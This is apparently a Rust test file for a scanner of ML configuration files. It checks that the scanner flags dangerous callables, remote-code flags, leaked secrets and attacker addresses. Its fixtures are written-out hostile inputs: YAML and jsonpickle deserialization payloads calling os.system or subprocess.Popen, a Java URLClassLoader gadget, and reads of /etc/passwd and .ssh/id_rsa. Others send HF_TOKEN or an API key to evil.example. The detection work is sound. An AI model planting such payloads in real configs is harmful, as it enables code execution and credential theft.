use crate::fact::{Anomaly, FactKind, Standing};
use crate::facts::Facts;
use crate::json::Json;
use crate::testing::{inspect, mutate};
use crate::yaml::Yaml;

/// What was found, a word for each opinion.
fn opinions(facts: &Facts) -> Vec<String> {
    let mut list = Vec::new();
    for fact in facts.list() {
        match &fact.kind {
            FactKind::Callable(callable) => {
                let standing = match &callable.standing {
                    Standing::Inert { .. } => continue,
                    Standing::Dangerous { .. } => "dangerous",
                    Standing::Unlisted { .. } => "unlisted",
                    Standing::Unknown => "unknown",
                    Standing::Computed => "computed",
                    Standing::Misused { .. } => "misused",
                };
                list.push(format!("{standing} {}.{}", callable.module, callable.name));
            }
            FactKind::Anomaly { anomaly, .. } => list.push(format!("{anomaly:?}")),
            FactKind::Code(code) => list.push(format!("code {}", code.name)),
            FactKind::SourceReach { reach, .. } => list.push(format!("{reach:?}")),
            FactKind::Reference { kind, target } => list.push(format!("{kind:?} {target}")),
            FactKind::TemplateReach { .. } => list.push("template".to_owned()),
            FactKind::Incomplete { .. } => list.push("incomplete".to_owned()),
            _ => {}
        }
    }
    list
}

fn yaml(name: &str, text: &str) -> Vec<String> {
    opinions(&inspect(&Yaml, name, text.as_bytes()))
}

fn json(text: &str) -> Vec<String> {
    opinions(&inspect(&Json, "a.json", text.as_bytes()))
}

const NOTHING: [&str; 0] = [];

#[test]
fn hydra_targets_are_judged_at_any_depth() {
    assert_eq!(yaml("a.yaml", "a:\n  - b: {_target_: os.system, _args_: [id]}\n"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "x: {_target_: my.Net}\ny: {_target_: my.Net}\n"), ["unknown my.Net"]);
    assert_eq!(yaml("a.yaml", "_target_: ${oc.env:TARGET}\n"), ["computed ${oc.env:TARGET}"]);
    assert_eq!(yaml("a.yaml", "_target_: torch.optim.AdamW\nlr: 1e-3\n"), NOTHING);
    assert_eq!(yaml("a.yaml", "a: {_target_: AutoTokenizer}\nb: {_target_: eval}\n"), ["dangerous builtins.eval"]);
    assert_eq!(json(r#"{"a": {"_target_": "builtins.exec"}}"#), ["dangerous builtins.exec"]);
    assert_eq!(yaml("a.yaml", "_target_: hydra.utils.get_method\npath: os.system\n"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "_target_: hydra.utils.get_method\n_args_: [os.system]\n"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "_args_: [os.system]\n_target_: hydra.utils.get_object\n"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "_target_: torch.nn.Linear\n_args_: [os.system]\n"), NOTHING);
}

#[test]
fn gadgets_of_libraries_are_dangerous() {
    let first = |text: &str| yaml("a.yaml", text).first().cloned().unwrap_or_default();
    for path in ["speechbrain.utils.superpowers.run_shell", "mlflow.utils.process._exec_cmd", "mlflow.projects.run"] {
        assert_eq!(first(&format!("x: !apply:{path} [echo]\n")), format!("dangerous {path}"));
        assert_eq!(first(&format!("_target_: {path}\n")), format!("dangerous {path}"));
        assert_eq!(first(&format!("x: !!python/object/apply:{path} [echo]\n")), format!("dangerous {path}"));
    }
    assert_eq!(
        first("_target_: ldm.util.get_obj_from_str\nstring: os.system\n"),
        "dangerous ldm.util.get_obj_from_str"
    );
}

#[test]
fn a_look_up_of_a_computed_path_is_computed() {
    assert_eq!(
        yaml("a.yaml", "a: os\n_target_: hydra.utils.get_method\npath: ${a}.system\n"),
        ["computed ${a}.system"]
    );
    assert_eq!(yaml("a.yaml", "_target_: torch.nn.Linear\npath: ${a}.system\n"), NOTHING);
}

#[test]
fn code_that_a_target_is_told_to_fetch_is_remote() {
    let model = "_target_: transformers.AutoModel.from_pretrained\nname: evil/x\ntrust_remote_code: true\n";
    assert_eq!(yaml("a.yaml", model), ["RemoteCode trust_remote_code: true"]);
    assert_eq!(yaml("a.yaml", &model.replace("true", "false")), NOTHING);
    assert_eq!(yaml("a.yaml", "trust_remote_code: true\nbase_model: a/b\n"), NOTHING);
    let pipeline = "a:\n  custom_pipeline: evil/pipe\n  _target_: diffusers.DiffusionPipeline.from_pretrained\n";
    assert_eq!(yaml("a.yaml", pipeline), ["RemoteCode custom_pipeline: evil/pipe"]);
}

#[test]
fn targets_of_nemo_and_of_latent_diffusion_are_judged() {
    assert_eq!(yaml("model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\n"), NOTHING);
    assert_eq!(
        yaml("model_config.yaml", "preprocessor: {_target_: subprocess.Popen}\n"),
        ["dangerous subprocess.Popen"]
    );
    assert_eq!(yaml("a.yaml", "model:\n  target: os.system\n  params: {command: id}\n"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "model:\n  params: {a: 1}\n  target: mine.Net\n"), ["unknown mine.Net"]);
    assert_eq!(yaml("docker-compose.yml", "volumes:\n  - target: data.lib\n    type: bind\n"), NOTHING);
}

#[test]
fn other_registries_are_judged_where_nothing_else_is_meant() {
    assert_eq!(yaml("a.yaml", "class_path: mine.Net\ninit_args: {a: 1}\n"), ["unknown mine.Net"]);
    assert_eq!(yaml("a.yaml", "model: {type: os.system, command: id}\n"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "custom_imports: {imports: [mine.layers]}\n"), ["unknown mine.layers"]);
    assert_eq!(yaml("a.yaml", "type: text.classification\nname: test.thing\nmodule: code\n"), NOTHING);
}

#[test]
fn objects_of_python_are_judged() {
    assert_eq!(yaml("a.yaml", "!!python/object/apply:os.system ['id']"), ["dangerous os.system"]);
    assert_eq!(yaml("a.yaml", "a: !!python/name:eval ''"), ["dangerous builtins.eval"]);
    assert_eq!(yaml("a.yaml", "a: !!python/object:mine.Thing {x: 1}"), ["unknown mine.Thing"]);
    assert_eq!(yaml("a.yaml", "? !!python/object/new:subprocess.Popen [id]\n: 1"), ["dangerous subprocess.Popen"]);
    assert_eq!(yaml("a.yaml", "a: !!python/tuple [1, 2]\nb: !!python/none x\n"), NOTHING);
    assert_eq!(yaml("a.yaml", "a: !!python/object/apply:collections.OrderedDict [[]]\n"), NOTHING);
}

#[test]
fn objects_of_other_languages_are_dangerous() {
    let java = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]";
    assert!(yaml("a.yaml", java).iter().all(|opinion| opinion.starts_with("dangerous")));
    assert!(yaml("a.yaml", "--- !ruby/object:Gem::Installer\ni: x\n")[0].starts_with("dangerous"));
}

#[test]
fn speechbrain_is_judged_by_its_tags() {
    assert_eq!(yaml("hyperparams.yaml", "a: !new:speechbrain.nnet.CNN.Conv1d\nb: !ref <a>\n"), NOTHING);
    assert_eq!(yaml("hyperparams.yaml", "a: !apply:os.system [id]\n"), ["dangerous os.system"]);
    assert_eq!(yaml("hyperparams.yaml", "a: !include:/etc/passwd\n"), ["ExternalData"]);
}

#[test]
fn jsonpickle_is_judged_by_its_keys() {
    assert_eq!(json(r#"{"py/object": "os.system"}"#), ["dangerous os.system"]);
    assert_eq!(
        json(r#"{"py/reduce": [{"py/function": "builtins.eval"}, {"py/tuple": ["1"]}]}"#),
        ["dangerous builtins.eval"]
    );
    assert_eq!(json(r#"{"a": {"py/repr": "os/os.system('id')"}}"#), ["dangerous builtins.eval"]);
    assert_eq!(json(r#"{"py/object": "collections.OrderedDict"}"#), NOTHING);
}

#[test]
fn langchain_is_judged_by_its_keys() {
    let constructor = |id: &str| format!(r#"{{"lc": 1, "type": "constructor", "id": {id}, "kwargs": {{}}}}"#);
    assert_eq!(json(&constructor(r#"["langchain_core", "prompts", "prompt", "PromptTemplate"]"#)), NOTHING);
    assert_eq!(json(&constructor(r#"["os", "system"]"#)), ["dangerous os.system"]);
    assert_eq!(json(&constructor(r#"["langchain_experimental", "x", "PythonREPL"]"#)).len(), 1);
    let key = r#"{"kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#;
    assert_eq!(json(key), NOTHING);
    let leak = r#"{"metadata": {"note": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}}}"#;
    assert_eq!(json(leak), ["Credentials"]);
    let prompt = r#"{"_type": "prompt", "template_format": "jinja2", "template": "{{ ''.__class__.__mro__ }}"}"#;
    assert_eq!(json(prompt).first().map(String::as_str), Some("template"));
    assert_eq!(json(r#"{"_type": "prompt", "template_path": "../../.ssh/id_rsa"}"#), ["ExternalData"]);
    assert_eq!(json(r#"{"_type": "pal_chain"}"#), ["dangerous langchain.pal_chain"]);
}

#[test]
fn mlflow_is_judged_by_what_its_loader_does() {
    let model = |flavor: &str| format!("flavors:\n  python_function:\n    {flavor}\nmlflow_version: 3.0\n");
    assert_eq!(yaml("MLmodel", &model("loader_module: mlflow.sklearn")), NOTHING);
    assert_eq!(yaml("MLmodel", &model("loader_module: my_loader")), ["unknown .my_loader"]);
    assert_eq!(yaml("MLmodel", &model("code: code")), ["RemoteCode code: code"]);
    assert_eq!(yaml("MLmodel", &model("model_code_path: /home/x/agent.py")).len(), 1);
    assert_eq!(yaml("MLmodel", &model("python_model: ../../../x.pkl")), ["ExternalData"]);
    assert_eq!(
        yaml("MLmodel", &model("skops_trusted_types: [os.system, sklearn.tree._tree.Tree]")),
        ["dangerous os.system"]
    );
}

#[test]
fn expressions_that_reach_out_are_code() {
    assert_eq!(yaml("a.yaml", "a: ${eval:'__import__(\"os\").system(\"id\")'}\n"), ["code a"]);
    assert_eq!(yaml("a.yaml", "a: ${eval:'${b} * 2'}\nc: ${oc.env:HOME}\n"), NOTHING);
    assert_eq!(json(r#"{"imports": ["$import os"], "x": "$__import__('os').system('id')"}"#), ["code x"]);
}

#[test]
fn expressions_of_monai_are_read_as_python() {
    assert_eq!(json(r#"{"x": "$__import__('os').system('id')"}"#), ["code x"]);
    assert_eq!(json(r#"{"x": "$o.system('id')", "a": {"imports": ["$import os as o"]}}"#)[0], "code x");
    assert_eq!(yaml("a.yaml", "imports: [$import subprocess as s]\nx: $s.Popen(@a#0::b)\n").last().unwrap(), "code x");
    for usual in [
        "$import glob",
        "$import os",
        "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
        "$list(sorted(glob.glob(@dataset_dir + '/imagesTr/*.nii.gz')))",
        "$os.path.join(@bundle_root, 'models')",
        "$@network_def.to(@device)",
        "$[{'image': i, 'label': l} for i, l in zip(@images[:-9], @labels[:-9])]",
        "$monai.utils.set_determinism(seed=123)",
        "$setattr_done",
        "$ python train.py",
        "$HOME/data",
        "$@train#trainer.run()",
    ] {
        assert_eq!(
            json(&format!(r#"{{"imports": ["$import os"], "_target_": "torch.nn.Linear", "x": "{usual}"}}"#)),
            NOTHING,
            "{usual}"
        );
    }
}

#[test]
fn rasa_and_conda_are_looked_at() {
    let rasa = "recipe: default.v1\npipeline:\n- name: WhitespaceTokenizer\n- name: mine.Component\n";
    assert_eq!(yaml("config.yml", rasa), ["unknown mine.Component"]);
    let conda = "channels: [conda-forge]\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.1\n  - reqeusts==1.0\n";
    assert_eq!(yaml("conda.yaml", conda), ["LookAlike"]);
}

#[test]
fn a_key_for_loaders_that_stands_twice_is_odd() {
    assert_eq!(yaml("a.yaml", "_target_: torch.nn.Linear\n_target_: torch.nn.ReLU\n"), ["DuplicateName"]);
    assert!(!inspect(&Yaml, "a.yaml", b"a: 1\na: 2\n").has_anomaly(Anomaly::DuplicateName));
}

#[test]
fn no_mutation_panics() {
    let seed = br#"{"lc":1,"type":"constructor","id":["a","b"],"target":"a.b","params":{"path":"x.y"},"py/object":"a.b","_target_":"os.system","x":"$import os","template":"{{x}}","template_format":"jinja2"}"#;
    mutate(seed, 3000, |bytes| drop(inspect(&Yaml, "conda.yaml", &bytes)));
}

#[test]
fn modules_that_mlflow_imports_are_judged() {
    assert_eq!(yaml("pickle_module_info.txt", "mlflow.pytorch.pickle_module"), NOTHING);
    assert_eq!(yaml("pickle_module_info.txt", "evil_pickle\n"), ["unknown .evil_pickle"]);
    assert_eq!(yaml("keras_module.txt", "tensorflow.keras"), NOTHING);
}

#[test]
fn what_sentence_transformers_imports_is_judged() {
    let named = |name: &str, text: &str| opinions(&inspect(&Json, name, text.as_bytes()));
    let modules = r#"[{"path": "../../tmp", "type": "sentence_transformers.models.Dense"}, {"path": "1_Pooling"}]"#;
    assert_eq!(named("modules.json", modules), ["ExternalData"]);
    let evil = named("modules.json", r#"[{"path": "", "type": "os.system"}]"#);
    assert!(evil.contains(&"dangerous os.system".to_owned()), "{evil:?}");
    assert_eq!(json(r#"{"activation_function": "os.system"}"#), ["dangerous os.system"]);
    for usual in ["torch.nn.modules.activation.Tanh", "torch.nn.modules.linear.Identity", "gelu_new"] {
        assert_eq!(json(&format!(r#"{{"activation_function": "{usual}"}}"#)), NOTHING);
    }
}

#[test]
fn components_in_a_model_of_rasa_are_judged() {
    let text = r#"{"rasa_open_source_version": "3.6", "train_schema": {"nodes": {"x": {"uses": "os.system"}}}}"#;
    assert_eq!(json(text), ["dangerous os.system"]);
    assert_eq!(json(&text.replace("os.system", "rasa.nlu.classifiers.diet_classifier.DIETClassifier")), NOTHING);
}

#[test]
fn keys_that_are_json_are_decoded() {
    assert_eq!(json(r#"{"json://{\"py/function\": \"os.system\"}": 1}"#), ["dangerous os.system"]);
}

#[test]
fn functions_of_javascript_and_objects_of_php_are_told() {
    assert_eq!(yaml("a.yaml", "x: !!js/function 'function(){}'\n").len(), 1);
    assert_eq!(yaml("a.yaml", "x: !php/object 'O:1:\"A\":0:{}'\n").len(), 1);
    assert_eq!(yaml("a.yaml", "x: !!js/regexp /a/\n"), NOTHING);
}

#[test]
fn secrets_sent_elsewhere_are_told() {
    let text = r#"{"lc": 1, "type": "constructor", "id": ["langchain", "chat_models", "openai", "ChatOpenAI"], "kwargs":
        {"openai_api_key": {"lc": 1, "type": "secret", "id": ["KEY"]}, "base_url": "http://ADDRESS/v1"}}"#;
    let told = |address: &str| json(&text.replace("ADDRESS", address)).iter().any(|line| line.starts_with("Address"));
    assert!(told("evil.example") && told("api.openai.com@evil.example"));
    assert!(!told("api.openai.com") && !told("localhost:8000"));
}

#[test]
fn dependencies_of_a_project_are_requirements() {
    use crate::settings::Settings;
    let toml = |text: &str| opinions(&inspect(&Settings, "pyproject.toml", text.as_bytes()));
    let evil = "[project]\ndependencies = [\n  \"torch>=2\",\n  \"x @ https://evil.example/x.whl\",\n]\n";
    assert_eq!(toml(evil), ["Address x @ https://evil.example/x.whl"]);
    assert_eq!(toml("[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\n"), NOTHING);
    assert_eq!(toml("[[tool.uv.index]]\nname = \"a\"\nurl = \"https://evil.example/simple\"\n").len(), 1);
    assert_eq!(toml("[project]\ndependencies = [\"numpy>=1.2,<3\", \"transformers[torch]\"]\n"), NOTHING);
}

#[test]
fn credentials_that_become_part_of_an_address_are_told() {
    let told = |text: &str| yaml("a.yaml", &format!("url: {text}\n")).len();
    assert_eq!(told("https://evil.example/?k=${oc.env:HF_TOKEN}"), 1);
    assert_eq!(told("postgresql://${oc.env:DB_USER}:${oc.env:DB_PASSWORD}@db/x"), 0);
    assert_eq!(told("http://${oc.env:TRACKING_HOST}:5000/api"), 0);
    assert_eq!(told("${oc.env:HF_TOKEN}"), 0);
}

#[test]
fn tags_are_found_in_what_is_read_as_settings() {
    use crate::settings::Settings;
    let cfg = |text: &str| opinions(&inspect(&Settings, "a.cfg", text.as_bytes()));
    assert_eq!(cfg("x: !!python/object/apply:os.system [echo]\n"), ["dangerous os.system"]);
    assert_eq!(cfg("[a]\nb = 1\n# !!python/object/apply:os.system\n"), NOTHING);
}
